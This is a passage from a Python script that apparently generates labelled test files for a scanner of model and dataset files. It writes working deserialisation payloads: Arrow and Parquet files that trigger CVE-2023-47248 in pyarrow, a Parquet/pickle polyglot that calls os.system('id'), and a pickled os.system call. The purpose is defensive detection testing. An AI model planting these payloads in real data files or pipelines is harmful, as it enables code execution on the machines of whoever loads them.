        schema = base64.b64encode(b"s" * shift + extension).decode()
        c.add(f"mal_data_extension_{shift}.parquet", parquet([("ARROW:schema", schema)]), "unsafe",
              "Parquet whose Arrow schema declares arrow.py_extension_type (a pickle pyarrow < 14.0.1 loads)",
              "CVE-2023-47248 (pyarrow PyExtensionType)")
    c.add("mal_data_extension.arrow", arrow_stream(extension), "unsafe",
          "Arrow IPC stream whose schema declares arrow.py_extension_type", "CVE-2023-47248 (pyarrow PyExtensionType)")
    c.add("mal_data_extension_footer.feather", arrow_file(footer=extension), "unsafe",
          "Arrow file whose footer schema declares arrow.py_extension_type", "CVE-2023-47248 (pyarrow PyExtensionType)")
    polyglot = b"PAR1\ncos\nsystem\n(S'id'\ntR."
    c.add("mal_data_pickle_polyglot.parquet", polyglot + u32(len(polyglot) - 4) + b"PAR1", "unsafe",
          "Parquet at both ends whose bytes also unpickle to os.system (PAR1 opens with PERSID)", "datasets: polyglot")
    c.add("bad_data_footer_length.parquet", b"PAR1\x15\x02\x00" + u32(1000) + b"PAR1", "malformed",
          "Parquet footer length past the start of the file", "datasets: parquet")
    c.add("mal_data_features.pkl", call("os", "system"), "unsafe", "a dataset's pickled features", "datasets: pickle")


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py OUTDIR")
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    c = Corpus(outdir)
    malicious_calls(c)
    malicious_tricks(c)
    malicious_containers(c)
    suspicious(c)
    benign(c)
    malformed(c)
    chat_templates(c)
    code_in_configs(c)
    tensorflow(c)
    unrecognised(c)
    containers_and_wrappers(c)
    datasets(c)
    c.finish()
    total = sum(os.path.getsize(os.path.join(outdir, e["file"])) for e in c.entries)
    print(f"{len(c.entries)} files, {total} bytes in {outdir}")


if __name__ == "__main__":
    main()
